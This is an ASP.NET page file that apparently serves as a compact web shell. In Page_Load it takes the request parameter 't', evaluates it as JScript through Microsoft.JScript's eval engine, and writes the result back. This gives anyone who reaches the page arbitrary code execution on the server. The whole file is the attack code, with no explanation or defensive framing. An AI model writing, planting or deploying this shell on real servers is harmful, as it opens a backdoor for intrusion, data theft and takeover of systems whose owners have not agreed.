<%@ Page Language="C#" %>
<%@ Import Namespace="Microsoft.JScript" %>
<%@ Assembly Name="Microsoft.JScript" %>
<script runat="server">
    void Page_Load(object sender, EventArgs e)
    {
        string payload = Request.Params["t"];
        if (payload != null)
        {
            object r = Microsoft.JScript.Eval.JScriptEvaluate(payload, Microsoft.JScript.Vsa.VsaEngine.CreateEngine());
            Response.Write(r);
        }
    }
</script>
